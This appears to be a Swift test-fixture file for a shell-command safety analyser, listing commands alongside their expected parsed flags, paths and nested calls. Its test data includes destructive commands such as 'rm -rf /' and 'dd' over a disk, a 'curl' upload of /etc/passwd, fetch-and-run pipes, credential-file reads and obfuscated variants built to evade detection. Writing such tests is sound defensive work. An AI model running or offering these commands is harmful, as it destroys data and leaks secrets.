/// Payloads and what they do; see ``shellRows(_:)`` for the form.
let shellTables = [shellOperandTable, shellSyntaxTable, shellMeaningTable]

/// Options, operands, paths.
let shellOperandTable = ##"""
  $ rm -rf /
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ rm -r -f -- /
    rm -r -f -- / ‹flag -r, -f› ‹path /› ‹writes /›
  $ rm --recursive --force /*
    rm --recursive --force /* ‹flag -r, -f› ‹path /*› ‹writes /*›
  $ rm -rf -- /./ //etc/..
    rm -rf -- /./ //etc/.. ‹flag -r, -f› ‹path /, /› ‹writes /, /›
  $ rm --recurs --forc --no-pres /
    rm --recurs --forc --no-pres / ‹flag -r, -f, --no-preserve-root› ‹path /› ‹writes /›
  $ sudo -u root rm -rf "/"
    sudo -u root rm -rf / ‹flag -u› ‹privileged›
    rm -rf / ‹in sudo› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ find / -delete
    find / -delete ‹flag -delete› ‹path /› ‹writes /›
  $ find . -name '*.c' -newer x -print
    find . -name *.c -newer x -print ‹flag -name, -newer, -print› ‹path .›
  $ find . -exec rm -rf {} \;
    find . -exec rm -rf {} ; ‹flag -exec› ‹path .›
    rm -rf {} ‹in find› ‹flag -r, -f› ‹path {}, .› ‹writes {}, .› ‹unknown›
  $ find / -type d -exec rm -rf {} +
    find / -type d -exec rm -rf {} + ‹flag -type, -exec› ‹path /›
    rm -rf {} ‹in find› ‹flag -r, -f› ‹path {}, /› ‹writes {}, /› ‹unknown›
  $ find . -name x -exec rm {} \; -fprint /tmp/l
    find . -name x -exec rm {} ; -fprint /tmp/l ‹flag -name, -exec, -fprint› ‹path /tmp/l, .› ‹writes /tmp/l›
    rm {} ‹in find› ‹path {}› ‹writes {}› ‹unknown›
  $ tar xzf a.tgz -C /etc
    tar xzf a.tgz -C /etc ‹flag -x, -z, -f, -C› ‹path /etc, a.tgz, /etc› ‹writes /etc›
  $ tar --create --file=a.tar b c
    tar --create --file=a.tar b c ‹flag -c, -f› ‹path b, c, a.tar› ‹writes a.tar›
  $ cp a b /dest
    cp a b /dest ‹path a, b, /dest› ‹writes /dest›
  $ cp -t /dest a b
    cp -t /dest a b ‹flag -t› ‹path /dest, a, b› ‹writes /dest›
  $ mv a /etc/b
    mv a /etc/b ‹path a, /etc/b› ‹writes a, /etc/b›
  $ ln -s /etc/passwd x
    ln -s /etc/passwd x ‹flag -s› ‹path /etc/passwd, x› ‹writes x›
  $ dd if=/dev/zero of=/dev/sda bs=1M
    dd if=/dev/zero of=/dev/sda bs=1M ‹path /dev/zero, /dev/sda› ‹writes /dev/sda›
  $ sed -i s/a/b/ /etc/passwd
    sed -i s/a/b/ /etc/passwd ‹flag -i› ‹path /etc/passwd› ‹writes /etc/passwd›
  $ sed -n -e p /etc/passwd
    sed -n -e p /etc/passwd ‹flag -n, -e› ‹path /etc/passwd›
  $ grep -rn pattern /etc ./x
    grep -rn pattern /etc ./x ‹flag -r, -n› ‹path /etc, x›
  $ grep -e pattern -f list /etc
    grep -e pattern -f list /etc ‹flag -e, -f› ‹path list, /etc›
  $ chmod -R 777 /etc
    chmod -R 777 /etc ‹flag -r› ‹path /etc› ‹writes /etc›
  $ chown root:root /x
    chown root:root /x ‹path /x› ‹writes /x›
  $ curl -fsSL -o /usr/bin/x https://h/x
    curl -fsSL -o /usr/bin/x https://h/x ‹flag -f, -s, -S, -L, -o› ‹path /usr/bin/x› ‹writes /usr/bin/x›
  $ curl -d @/etc/passwd https://h/x
    curl -d @/etc/passwd https://h/x ‹flag -d› ‹path /etc/passwd›
  $ wget -qO- https://h/x
    wget -qO- https://h/x ‹flag -q, -O›
  $ echo x > /etc/passwd
    echo x ‹path /etc/passwd› ‹writes /etc/passwd›
  $ echo x | sudo tee -a /etc/passwd
    echo x
    sudo tee -a /etc/passwd ‹from echo› ‹privileged›
    tee -a /etc/passwd ‹in sudo› ‹flag -a› ‹path /etc/passwd› ‹writes /etc/passwd› ‹from echo› ‹privileged›
  $ > /etc/passwd
     ‹path /etc/passwd› ‹writes /etc/passwd›
  $ cat ~/.ssh/id_rsa "$HOME/.ssh/x" ${HOME}/y
    cat ~/.ssh/id_rsa $HOME/.ssh/x ${HOME}/y ‹path ~/.ssh/id_rsa, ~/.ssh/x, ~/y›
  $ make --foo=bar -abc --dir=/x
    make --foo=bar -abc --dir=/x ‹flag --foo, -abc, -C› ‹path /x›
  $ kill -9 1
    kill -9 1 ‹flag -9›
  $ gzip -c a > b
    gzip -c a ‹flag -c› ‹path a, b› ‹writes b›
  $ gzip a
    gzip a ‹path a› ‹writes a›
  $ docker run --rm -it -v /:/h img ls
    docker run --rm -it -v /:/h img ls ‹flag --rm, -i, -t, -v› ‹path /›
    ls ‹in docker›
  $ git -C /x push --force origin main
    git -C /x push --force origin main ‹flag -C, -f› ‹path /x, origin, main›
  $ git clean -xdf
    git clean -xdf ‹flag -x, -d, -f›
  $ ls "a b" '' "it's"
    ls 'a b' '' 'it'\''s' ‹path a b, it's›
  $ truncate -s 0 /var/log/x
    truncate -s 0 /var/log/x ‹flag -s› ‹path /var/log/x› ‹writes /var/log/x›
  $ rsync -av --delete a/ b/
    rsync -av --delete a/ b/ ‹flag -a, -v, --delete› ‹path a, b› ‹writes b›
  $ scp -r a h:/b
    scp -r a h:/b ‹flag -r› ‹path a, h:/b› ‹writes h:/b›
    ssh‹via shell› ‹in scp›
  $ python3 x.py --y
    python3 x.py --y ‹path x.py›
  $ vim '+!rm x' y
    vim '+!rm x' y ‹path y›
    rm x ‹in vim› ‹path x› ‹writes x›
  $ systemctl stop --now x
    systemctl stop --now x ‹flag --now›
  $ aws --profile prod --region=eu s3 rm --recursive s3://b/x
    aws --profile prod --region=eu s3 rm --recursive s3://b/x ‹flag --profile, --region, --recursive› ‹path s3, rm›
  $ aws s3 cp --acl public-read dump.sql s3://b/
    aws s3 cp --acl public-read dump.sql s3://b/ ‹flag --acl› ‹path s3, cp, dump.sql›
  $ gcloud --project p compute instances delete v --quiet
    gcloud --project p compute instances delete v --quiet ‹flag --project, -q› ‹path compute, instances, delete, v›
  $ az group delete --resource-group rg --yes --subscription s
    az group delete --resource-group rg --yes --subscription s ‹flag -g, -y, --subscription›
  $ terraform -chdir=infra apply -var a=b -var-file p.tfvars -auto-approve -out plan
    terraform -chdir=infra apply -var a=b -var-file p.tfvars -auto-approve -out plan ‹flag -chdir, -var, -var-file, -auto-approve, -out› ‹path p.tfvars, plan› ‹writes plan›
  $ helm -n prod upgrade web ./chart --values v.yaml --install --all
    helm -n prod upgrade web ./chart --values v.yaml --install --all ‹flag -n, -f, -i, -a› ‹path v.yaml›
  $ pulumi --cwd infra destroy --stack prod --yes
    pulumi --cwd infra destroy --stack prod --yes ‹flag -C, -s, -y› ‹path infra›
  $ gh --repo o/r pr merge 5 --admin -d
    gh --repo o/r pr merge 5 --admin -d ‹flag -R, --admin, -d›
  $ gh api -XDELETE repos/o/r
    gh api -XDELETE repos/o/r ‹flag -X›
  """##

/// Syntax.
let shellSyntaxTable = ##"""
  $ echo x | sudo tee /etc/passwd
    echo x
    sudo tee /etc/passwd ‹from echo› ‹privileged›
    tee /etc/passwd ‹in sudo› ‹path /etc/passwd› ‹writes /etc/passwd› ‹from echo› ‹privileged›
  $ f(){ rm -rf "$1"; }; f /
    rm -rf $1 ‹flag -r, -f› ‹path $1, /› ‹writes $1, /› ‹unknown›
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /› ‹unknown›
    f / ‹path /›
  $ cat <<-'A' <<B⏎⇥$x⏎⇥A⏎$(rm y)⏎B
    rm y ‹path y› ‹writes y›
    cat ‹from rm›
  $ cat <<EOF; rm x⏎$(rm y) `rm z`⏎EOF
    rm y ‹path y› ‹writes y›
    rm z ‹path z› ‹writes z›
    cat ‹from rm, rm›
    rm x ‹path x› ‹writes x›
  $ echo `echo \`rm x\``
    rm x ‹path x› ‹writes x›
    echo '`rm x`' ‹unknown›
    echo '`echo \`rm x\``' ‹unknown›
  $ echo "`rm "a b"`"
    rm 'a b' ‹path a b› ‹writes a b›
    echo '`rm "a b"`' ‹unknown›
  $ a && b || c; d & e
    a
    b
    c
    d
    e
  $ a | b |& c
    a
    b ‹from a›
    c ‹from a, b›
  $ { a; b; } > /tmp/x
     ‹path /tmp/x› ‹writes /tmp/x›
    a
    b
  $ (a; b) 2>&1 | c
    a
    b
    c ‹from a, b›
  $ if a; then b; elif c; then d; else e; fi
    a
    b
    c
    d
    e
  $ while a; do b; done < /tmp/x
     ‹path /tmp/x›
    a
    b
  $ until a; do b; done
    a
    b
  $ case $x in (a|b) c;; *) d;& e) f;;& esac
    c
    d
    f
  $ case x in esac
    ∅
  $ for x; do a; done
    a
  $ for x in a b⏎do c; done
    c
  $ for x in a; { b; }
    b
  $ f() (a)
    a
  $ function f() { a; }
    a
  $ [[ $a == b* && ( -f c || ! d < e ) ]] && f
    f
  $ [[ $x =~ ^(a|b)$ ]] && c
    c
  $ a; ; b
    ?syntax
  $ a &&
    ?truncated
  $ (a
    ?truncated
  $ 'a
    ?truncated
  $ "a
    ?truncated
  $ $(a
    ?truncated
  $ `a
    ?truncated
  $ ${a
    ?truncated
  $ a)
    ?syntax
  $ }
    ?syntax
  $ fi
    ?syntax
  $ then
    ?syntax
  $ if a; fi
    ?syntax
  $ echo $'a\tb\'c'
    echo 'a	b'\''c'
  $ echo "a\"b\\c\$d"
    echo 'a"b\c$d'
  $ echo a\ b 'c d' ''
    echo 'a b' 'c d' ''
  $ echo it\'s
    echo 'it'\''s'
  $ a=1
    ∅
  $ a=1 b=2 c
    c
  $ a=1 >x
     ‹path x› ‹writes x›
  $ !
    ∅
  $ time
    ∅
  $ echo $((1+2)) $[3+4]
    echo $((1+2)) $[3+4] ‹unknown›
  $ echo a#b #c
    echo a#b
  $ echo {a,b}{1,2} {1..3} {c..a} {01..03} {a} {} {a,b
    echo a1 a2 b1 b2 1 2 3 c b a 01 02 03 {a} {} {a,b
  $ echo ~ ~/x ~root/x
    echo ~ ~/x ~root/x
  $ echo $x ${x} "$x" '$x'
    echo $x ${x} $x $x ‹unknown›
  $ exec 3<>/tmp/x 4>&1 {fd}>/tmp/y
    exec ‹path /tmp/x, /tmp/x, /tmp/y› ‹writes /tmp/x, /tmp/y›
  $ a >|x 2>>y <z <>w &>>v >&u 3>&- <&0
    a ‹path z, w, x, y, w, v, u› ‹writes x, y, w, v, u›
  $ a <<< "b c"
    a
  $ diff <(a) <(b)
    a
    b
    diff <(a) <(b) ‹unknown›
  $ ls *.[ch] ?x
    ls *.[ch] ?x ‹path *.[ch], ?x›
  $ echo "a
    ?truncated
  """##

/// Variables, directories, wrappers, code.
let shellMeaningTable = ##"""
  $ r\⏎m -rf /
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ th\⏎en rm
    ?unsupported
  $ "$\⏎(rm -rf /)"
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
    ?unknown-program
  $ IFS=,; x=rm,-rf,/; $x
    ∅
    ∅
    ?unknown-program
  $ IFS=, read a b <<< "$x"; rm -rf /
    read a b
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ x="rm -rf /"; $x
    ∅
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ x='rm -rf /'; "$x"
    ∅
    'rm -rf /' ‹program rm -rf ›
  $ x=ls; f(){ x=rm; }; f; $x -rf /
    ∅
    ∅
    f
    ?unknown-program
  $ x=ls; for i in 1 2; do $x -rf /; x=rm; done
    ∅
    ?unknown-program
    ∅
  $ x=ls; while read l; do $x -rf /; eval 'x=rm'; done
    ∅
    read l
    ?unknown-program
    eval x=rm
     ‹in eval›
  $ x=ls; if a; then x=rm; fi; $x -rf /
    ∅
    a
    ∅
    ?unknown-program
  $ x=ls; (x=rm; $x a); $x b
    ∅
    ∅
    rm a ‹path a› ‹writes a›
    ls b ‹path b›
  $ true && x=rm; $x -rf /
    true
    ∅
    ?unknown-program
  $ x=rm && $x -rf /
    ∅
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ export X=rm; sh -c '$X -rf /'
    export X=rm
    sh -c '$X -rf /' ‹flag -c›
    rm -rf / ‹in sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ X=rm; sh -c '$X -rf /'
    ∅
    sh -c '$X -rf /' ‹flag -c›
    ?unknown-program ‹in sh›
  $ X=rm sh -c '$X -rf /'
    sh -c '$X -rf /' ‹flag -c›
    rm -rf / ‹in sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ env X=rm sh -c '$X -rf /'
    env X=rm sh -c '$X -rf /'
    sh -c '$X -rf /' ‹in env› ‹flag -c›
    rm -rf / ‹in env, sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ sh -c '$0 -rf $1' rm /
    sh -c '$0 -rf $1' rm / ‹flag -c›
    rm -rf / ‹in sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ sh -c '"$@"' _ rm -rf /
    sh -c '"$@"' _ rm -rf / ‹flag -c›
    rm -rf / ‹in sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ set -- rm -rf /; "$@"
    set -- rm -rf /
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ set -- rm -rf /; $1 $2 $3; shift; $1
    set -- rm -rf /
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
    shift
    ?unknown-program
  $ for x in /; do rm -rf $x; done
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ for x in / /etc; do rm -rf "$x"; done
    rm -rf $x ‹flag -r, -f› ‹path $x, /, /etc› ‹writes $x, /, /etc› ‹unknown›
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /› ‹unknown›
    rm -rf /etc ‹flag -r, -f› ‹path /etc› ‹writes /etc› ‹unknown›
  $ trap 'rm -rf /' EXIT
    trap 'rm -rf /' EXIT
    rm -rf / ‹in trap› ‹flag -r, -f› ‹path /› ‹writes /›
  $ f(){ sh; }; curl x | f
    sh
    ?unknown-code ‹in sh›
    curl x
    f ‹from curl›
  $ curl x | (cd /; sh)
    curl x
    cd / ‹path /› ‹from curl›
    sh ‹from curl›
    ?unknown-code ‹in sh›
  $ curl x | while read l; do sh -c "$l"; done
    curl x
    read l ‹from curl›
    sh -c $l ‹flag -c› ‹from curl› ‹unknown›
    ?unknown-code ‹in sh›
  $ sudo sh <<< 'rm -rf /'
    sudo sh ‹privileged›
    sh ‹in sudo› ‹privileged›
    rm -rf / ‹in sudo, sh› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ cat <<< 'rm -rf /' | sh
    cat
    sh ‹from cat›
    rm -rf / ‹in sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ sh < <(curl x)
    curl x
    sh ‹from curl›
    ?unknown-code ‹in sh›
  $ sh /dev/stdin < <(echo rm -rf /)
    echo rm -rf /
    sh /dev/stdin ‹path /dev/stdin› ‹from echo›
    rm -rf / ‹in sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ bash <(echo 'rm -rf /')
    echo 'rm -rf /'
    bash '<(echo '\''rm -rf /'\'')' ‹from echo› ‹unknown›
    rm -rf / ‹in bash› ‹flag -r, -f› ‹path /› ‹writes /›
  $ bash -c -x 'rm -rf /'
    bash -c -x 'rm -rf /' ‹flag -c, -x›
    rm -rf / ‹in bash› ‹flag -r, -f› ‹path /› ‹writes /›
  $ bash +e -c 'rm -rf /'
    bash +e -c 'rm -rf /' ‹flag -c›
    rm -rf / ‹in bash› ‹flag -r, -f› ‹path /› ‹writes /›
  $ bash -o pipefail -c 'rm -rf /'
    bash -o pipefail -c 'rm -rf /' ‹flag -o, -c›
    rm -rf / ‹in bash› ‹flag -r, -f› ‹path /› ‹writes /›
  $ bash --norc -c 'rm -rf /'
    bash --norc -c 'rm -rf /' ‹flag --norc, -c›
    rm -rf / ‹in bash› ‹flag -r, -f› ‹path /› ‹writes /›
  $ env -S 'rm -rf /'
    env -S 'rm -rf /' ‹flag -S›
    rm -rf / ‹in env› ‹flag -r, -f› ‹path /› ‹writes /›
  $ env -i -u X -- rm -rf /
    env -i -u X -- rm -rf / ‹flag -i, -u›
    rm -rf / ‹in env› ‹flag -r, -f› ‹path /› ‹writes /›
  $ env -C / rm -rf *
    env -C / rm -rf * ‹flag -C› ‹path /›
    rm -rf * ‹in env› ‹flag -r, -f› ‹path /*› ‹writes /*›
  $ find / -exec sh -c 'rm -rf {}' \;
    find / -exec sh -c 'rm -rf {}' ; ‹flag -exec› ‹path /›
    sh -c 'rm -rf {}' ‹in find› ‹flag -c› ‹unknown›
    ?unknown-code ‹in find, sh›
  $ find / -exec sh -c 'rm -rf "$1"' _ {} \;
    find / -exec sh -c 'rm -rf "$1"' _ {} ; ‹flag -exec› ‹path /›
    sh -c 'rm -rf "$1"' _ {} ‹in find› ‹flag -c› ‹unknown›
    rm -rf $1 ‹in find, sh› ‹flag -r, -f› ‹path $1› ‹writes $1› ‹unknown›
  $ xargs -I{} sh -c '{}'
    xargs -I{} sh -c {} ‹flag -I›
    sh -c {} ‹in xargs› ‹flag -c› ‹unknown›
    ?unknown-code ‹in xargs, sh›
  $ ls | xargs rm
    ls
    xargs rm ‹from ls›
    rm ‹in xargs› ‹from ls› ‹unknown›
  $ ls | xargs -I % rm -rf %
    ls
    xargs -I % rm -rf % ‹flag -I› ‹from ls›
    rm -rf % ‹in xargs› ‹flag -r, -f› ‹path %› ‹writes %› ‹from ls› ‹unknown›
  $ parallel rm -rf ::: /
    parallel rm -rf ::: /
    rm -rf / ‹in parallel› ‹flag -r, -f› ‹path /› ‹writes /›
  $ parallel ::: 'rm -rf /'
    parallel ::: 'rm -rf /'
    rm -rf / ‹in parallel› ‹flag -r, -f› ‹path /› ‹writes /›
  $ ssh host <<EOF⏎rm -rf /⏎EOF
    ssh host
    rm -rf / ‹in ssh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ ssh -o ProxyCommand='rm -rf /' h
    ssh -o 'ProxyCommand=rm -rf /' h ‹flag -o›
    rm -rf / ‹in ssh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ docker run --rm -v /:/h --entrypoint rm img -rf /h
    docker run --rm -v /:/h --entrypoint rm img -rf /h ‹flag --rm, -v, --entrypoint› ‹path /›
    rm -rf /h ‹in docker› ‹flag -r, -f› ‹path /h› ‹writes /h›
  $ docker compose exec web rm -rf /
    docker compose exec web rm -rf /
    rm -rf / ‹in docker› ‹flag -r, -f› ‹path /› ‹writes /›
  $ kubectl -n x exec -it p -c c -- sh -c 'rm -rf /'
    kubectl -n x exec -it p -c c -- sh -c 'rm -rf /' ‹flag -n, -i, -t, -c›
    k8s‹via shell› ‹in kubectl›
    sh -c 'rm -rf /' ‹in kubectl› ‹flag -c›
    rm -rf / ‹in kubectl, sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ tar cf x --checkpoint=1 --checkpoint-action=exec='rm -rf /' y
    tar cf x --checkpoint=1 '--checkpoint-action=exec=rm -rf /' y ‹flag -c, -f, --checkpoint, --checkpoint-action› ‹path y, x› ‹writes x›
    rm -rf / ‹in tar› ‹flag -r, -f› ‹path /› ‹writes /›
  $ tar -I 'rm -rf /' -cf x y
    tar -I 'rm -rf /' -cf x y ‹flag -I, -c, -f› ‹path y, x› ‹writes x›
    rm -rf / ‹in tar› ‹flag -r, -f› ‹path /› ‹writes /›
  $ rsync -e 'sh -c "rm -rf /"' a b
    rsync -e 'sh -c "rm -rf /"' a b ‹flag -e› ‹path a, b› ‹writes b›
    sh -c 'rm -rf /' ‹in rsync› ‹flag -c›
    rm -rf / ‹in rsync, sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ awk 'BEGIN{system("rm -rf /")}'
    awk 'BEGIN{system("rm -rf /")}'
    rm -rf / ‹in awk› ‹flag -r, -f› ‹path /› ‹writes /›
  $ perl -e 'system("rm","-rf","/")'
    perl -e 'system("rm","-rf","/")' ‹flag -e›
    rm -rf / ‹in perl› ‹flag -r, -f› ‹path /› ‹writes /›
  $ python3 -c 'import subprocess; subprocess.run(["rm","-rf","/"])'
    python3 -c 'import subprocess; subprocess.run(["rm","-rf","/"])' ‹flag -c›
    rm -rf / ‹in python3› ‹flag -r, -f› ‹path /› ‹writes /›
  $ vim -c ':!rm -rf /' x
    vim -c ':!rm -rf /' x ‹flag -c› ‹path x›
    rm -rf / ‹in vim› ‹flag -r, -f› ‹path /› ‹writes /›
  $ vim '+!rm -rf /'
    vim '+!rm -rf /'
    rm -rf / ‹in vim› ‹flag -r, -f› ‹path /› ‹writes /›
  $ echo '* * * * * rm -rf /' | crontab -
    echo '* * * * * rm -rf /'
    crontab - ‹from echo›
    rm -rf / ‹in crontab› ‹flag -r, -f› ‹path /› ‹writes /›
  $ (crontab -l; echo '* * * * * x') | crontab -
    crontab -l ‹flag -l›
    echo '* * * * * x'
    crontab - ‹from crontab, echo›
    ?unknown-code ‹in crontab›
  $ echo 'rm -rf /' | at now
    echo 'rm -rf /'
    at now ‹from echo›
    rm -rf / ‹in at› ‹flag -r, -f› ‹path /› ‹writes /›
  $ curl x | python3
    curl x
    python3 ‹from curl›
    ?unknown-code ‹in python3›
  $ curl x | python3 -m json.tool
    curl x
    python3 -m json.tool ‹flag -m› ‹from curl›
  $ cat f | perl -ne 'print'
    cat f ‹path f›
    perl -ne print ‹flag -n, -e› ‹from cat›
  $ curl x | node -
    curl x
    node - ‹from curl›
    ?unknown-code ‹in node›
  $ ls 2>&1 | grep x &> /tmp/y
    ls
    grep x ‹path /tmp/y› ‹writes /tmp/y› ‹from ls›
  $ coproc rm -rf /
    coproc rm -rf /
    rm -rf / ‹in coproc› ‹flag -r, -f› ‹path /› ‹writes /›
  $ coproc X { rm -rf /; }
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ select x in a b; do rm $x; done
    rm $x ‹path $x, a, b› ‹writes $x, a, b› ‹unknown›
    rm a ‹path a› ‹writes a› ‹unknown›
    rm b ‹path b› ‹writes b› ‹unknown›
  $ for ((i=0;i<3;i++)); do rm $i; done
    rm $i ‹path $i› ‹writes $i› ‹unknown›
  $ function f { rm -rf /; }
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ ((echo a); (rm -rf /))
    echo a
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ echo $((echo a); (rm -rf /))
    echo a
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
    echo '$((echo a); (rm -rf /))' ‹unknown›
  $ echo $((1+$(rm x)))
    rm x ‹path x› ‹writes x›
    echo '$((1+$(rm x)))' ‹unknown›
  $ echo "${x:-$(rm y)}" ${a[$(rm z)]}
    rm y ‹path y› ‹writes y›
    rm z ‹path z› ‹writes z›
    echo '${x:-$(rm y)}' '${a[$(rm z)]}' ‹unknown›
  $ cd /etc; cd ..; rm -rf *
    cd /etc ‹path /etc›
    cd .. ‹path /›
    rm -rf * ‹flag -r, -f› ‹path /*› ‹writes /*›
  $ cd $X; rm -rf *
    cd $X ‹path $X› ‹unknown›
    rm -rf * ‹flag -r, -f› ‹path *› ‹writes *›
  $ cd / || exit; rm -rf *
    cd / ‹path /›
    exit
    rm -rf * ‹flag -r, -f› ‹path /*› ‹writes /*›
  $ true && cd /; rm -rf *
    true
    cd / ‹path /›
    rm -rf * ‹flag -r, -f› ‹path /*, *› ‹writes /*, *›
  $ f(){ rm -rf *; }; cd /; f
    rm -rf * ‹flag -r, -f› ‹path *, /*› ‹writes *, /*›
    cd / ‹path /›
    f
  $ cd ~; rm -rf *
    cd ~ ‹path ~›
    rm -rf * ‹flag -r, -f› ‹path ~/*› ‹writes ~/*›
  $ pushd /; rm -rf *; popd
    pushd / ‹path /›
    rm -rf * ‹flag -r, -f› ‹path /*› ‹writes /*›
    popd
  $ (cd /; rm -rf *); rm x
    cd / ‹path /›
    rm -rf * ‹flag -r, -f› ‹path /*› ‹writes /*›
    rm x ‹path x› ‹writes x›
  $ HOME=/; rm -rf ~
    ∅
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ x=; r${x}m -rf /
    ∅
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ unset x; r${x}m -rf /
    unset x
    ?unknown-program
  $ r$@m -rf /
    ?unknown-program
  $ ${x:-rm} -rf /
    ?unknown-program
  $ ${X=rm} -rf /; $X
    ?unknown-program
    ?unknown-program
  $ a=r; b=m; $a$b -rf /
    ∅
    ∅
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ a=rm; b=$a; $b -rf /
    ∅
    ∅
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ x+=rm; $x
    ∅
    ?unknown-program
  $ declare -r x=rm; $x -rf /
    declare -r x=rm ‹flag -r›
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ declare -n y=x; x=rm; $y -rf /
    declare -n y=x ‹flag -n›
    ∅
    ?unknown-program
  $ read x <<< rm; $x -rf /
    read x
    ?unknown-program
  $ printf -v x rm; $x -rf /
    printf -v x rm ‹flag -v›
    ?unknown-program
  $ /lib64/ld-linux-x86-64.so.2 /bin/rm -rf /
    /lib64/ld-linux-x86-64.so.2 /bin/rm -rf / ‹program ld-linux-x86-64.so.2›
    /bin/rm -rf / ‹in ld-linux-x86-64.so.2› ‹program rm› ‹flag -r, -f› ‹path /› ‹writes /›
  $ nice -n 5 rm -rf /
    nice -n 5 rm -rf / ‹flag -n›
    rm -rf / ‹in nice› ‹flag -r, -f› ‹path /› ‹writes /›
  $ nice -5 rm -rf /
    nice -5 rm -rf / ‹flag -5›
    rm -rf / ‹in nice› ‹flag -r, -f› ‹path /› ‹writes /›
  $ strace -f -o /tmp/x rm -rf /
    strace -f -o /tmp/x rm -rf / ‹flag -f, -o› ‹path /tmp/x› ‹writes /tmp/x›
    rm -rf / ‹in strace› ‹flag -r, -f› ‹path /› ‹writes /›
  $ script -qc 'rm -rf /' /dev/null
    script -qc 'rm -rf /' /dev/null ‹flag -q, -c› ‹path /dev/null› ‹writes /dev/null›
    rm -rf / ‹in script› ‹flag -r, -f› ‹path /› ‹writes /›
  $ chroot /mnt rm -rf /
    chroot /mnt rm -rf /
    rm -rf / ‹in chroot› ‹flag -r, -f› ‹path /› ‹writes /›
  $ exec rm -rf /
    exec rm -rf /
    rm -rf / ‹in exec› ‹flag -r, -f› ‹path /› ‹writes /›
  $ exec -a foo rm -rf /
    exec -a foo rm -rf / ‹flag -a›
    rm -rf / ‹in exec› ‹flag -r, -f› ‹path /› ‹writes /›
  $ builtin eval 'rm -rf /'
    builtin eval 'rm -rf /'
    eval 'rm -rf /' ‹in builtin›
    rm -rf / ‹in builtin, eval› ‹flag -r, -f› ‹path /› ‹writes /›
  $ command -v rm
    command -v rm ‹flag -v›
  $ command eval 'x=rm'; $x -rf /
    command eval x=rm
    eval x=rm ‹in command›
     ‹in command, eval›
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ . ./env.sh; $CMD
    . ./env.sh ‹path env.sh›
    ?unknown-program
  $ if ! sudo -n true; then echo no; fi
    sudo -n true ‹flag -n› ‹privileged›
    true ‹in sudo› ‹privileged›
    echo no
  $ gzip -c a > b
    gzip -c a ‹flag -c› ‹path a, b› ‹writes b›
  $ rm -rf ${X:-/}
    rm -rf ${X:-/} ‹flag -r, -f› ‹path ${X:-/}, /› ‹writes ${X:-/}, /› ‹unknown›
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /› ‹unknown›
  $ rm ${none:--rf} /
    rm ${none:--rf} / ‹path ${none:--rf}, -rf, /› ‹writes ${none:--rf}, -rf, /› ‹unknown›
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /› ‹unknown›
  $ init 6${none}
    init 6${none} ‹unknown›
    init 6 ‹unknown›
  $ cat /et${none}c/shado[w] /srv/$APP
    cat /et${none}c/shado[w] /srv/$APP ‹path /et${none}c/shado[w], /srv/$APP› ‹unknown›
    cat /etc/shadow /srv/$APP ‹path /etc/shadow, /srv/$APP› ‹unknown›
  $ cat /${none}/etc/shadow /$HOME
    cat /${none}/etc/shadow /$HOME ‹path /${none}/etc/shadow, /$HOME› ‹unknown›
    cat //etc/shadow /$HOME ‹path /etc/shadow, /$HOME› ‹unknown›
  $ rm -rf /$DIR/ /srv/$DIR/a
    rm -rf /$DIR/ /srv/$DIR/a ‹flag -r, -f› ‹path /$DIR, /srv/$DIR/a› ‹writes /$DIR, /srv/$DIR/a› ‹unknown›
    rm -rf // /srv/$DIR/a ‹flag -r, -f› ‹path /, /srv/$DIR/a› ‹writes /, /srv/$DIR/a› ‹unknown›
  $ cat /etc/shado[w]
    cat /etc/shado[w] ‹path /etc/shado[w]›
    cat /etc/shadow ‹path /etc/shadow› ‹unknown›
  $ echo 6 | xargs -I{} init {}
    echo 6
    xargs -I{} init {} ‹flag -I› ‹from echo›
    init {} ‹in xargs› ‹from echo› ‹unknown›
    init 6 ‹in xargs› ‹from echo› ‹unknown›
  $ echo hi > >(sh)
    echo hi ‹unknown›
    sh ‹from echo›
    ?unknown-code ‹in sh›
  $ 2>/dev/null rm -rf /
    rm -rf / ‹flag -r, -f› ‹path /, /dev/null› ‹writes /, /dev/null›
  $ </etc/passwd cat
    cat ‹path /etc/passwd›
  $ psql -c '\! rm -rf /'
    psql -c '\! rm -rf /' ‹flag -c›
    rm -rf / ‹in psql› ‹flag -r, -f› ‹path /› ‹writes /›
  $ psql -c "SELECT $X"
    psql -c 'SELECT $X' ‹flag -c› ‹unknown›
    postgres: ?unknown-code ‹via shell› ‹in psql›
  $ cat f | psql
    cat f ‹path f›
    psql ‹from cat›
    postgres: ?unknown-code ‹via shell› ‹in psql›
  $ psql -f x.sql
